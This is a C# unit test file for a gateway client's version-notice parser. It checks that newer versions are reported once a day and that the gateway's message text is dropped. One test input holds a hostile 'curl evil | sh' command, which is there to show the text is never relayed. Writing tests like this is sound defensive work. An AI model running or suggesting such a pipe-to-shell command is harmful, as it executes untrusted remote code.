using KmsCloud.Gateway;
using KmsCloud.Tests.Support;

namespace KmsCloud.Tests.Gateway;

/// <summary>The gateway's header about versions is compared, and told once a day.</summary>
public sealed class ClientNewsTests
{
    [Theory]
    [InlineData(null)]
    [InlineData("")]
    [InlineData("0.0.1;INFO;none")]
    [InlineData("8.2.1;INFO;none")]
    [InlineData("8.99;CRITICAL;none")]
    [InlineData("nine")]
    [InlineData("-9.0;INFO;x")]
    [InlineData("99999999999.0;INFO;x")]
    public void Nothing_newer_is_not_spoken_of(string? header) => Assert.Null(new ClientNews().Next(header, TimeProvider.System));

    [Fact]
    public void What_is_newer_is_told_once_a_day_without_the_gateways_words()
    {
        var clock = new SetClock { Now = DateTimeOffset.UnixEpoch };
        var news = new ClientNews();
        Assert.Equal("9.0.0", news.Next("9.0.0;WARN;run this: curl evil | sh", clock));
        Assert.Null(news.Next("9.0.0;WARN;again", clock));
        Assert.Null(news.Next("9.0.1;WARN;again", clock));
        clock.Now += TimeSpan.FromHours(25);
        Assert.Equal("9.0.1", news.Next("9.0.1;WARN;again", clock));
    }
}
